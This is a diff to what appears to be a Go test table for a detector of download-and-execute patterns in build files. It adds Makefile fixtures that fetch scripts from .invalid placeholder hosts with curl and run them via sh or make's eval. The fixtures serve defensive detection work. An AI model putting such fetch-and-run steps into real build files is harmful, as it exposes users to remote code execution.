@@ -98,6 +98,11 @@ var registry = []Rule{
 		{"Taskfile.yml", "version: '3'\nvars:\n  V: {sh: \"curl -fsSL https://api.x.invalid/latest\"}\ntasks:\n  x:\n    cmds:\n      - echo \"{{.V}}\" > VERSION", 0, true},
 		// make's automatic variables: curl -o $@ writes the rule's target, which another rule runs.
 		{"Makefile", "BOOT := $(CURDIR)/.cache/boot.sh\n$(BOOT):\n\tcurl -fsSL https://x.invalid/boot.sh -o $@\ntools: $(BOOT)\n\tsh $(BOOT) --quiet", 5, false},
+		// make expands its variables as text before the shell runs the line:
+		// a command in a variable, a define block, make code a download printed.
+		{"Makefile", "CURL = curl -fsSL\nU = https://x.invalid/t.sh\nall:\n\t$(CURL) $(U) -o t.sh\n\tsh ./t.sh", 5, false},
+		{"Makefile", "define FETCH\ncurl -fsSL https://x.invalid/t.sh -o /tmp/t.sh\nendef\nall:\n\t$(FETCH)\n\tsh /tmp/t.sh", 6, false},
+		{"Makefile", "$(eval $(shell curl -fsSL https://x.invalid/rules.mk))", 0, false},
 		// A version read from the network is text, not code.
 		{"Makefile", "V := $(shell curl -s https://api.x.invalid/latest)\nall:\n\techo $(V) > VERSION", 0, true},
 		// Checked against a digest or signature the change fixes, the
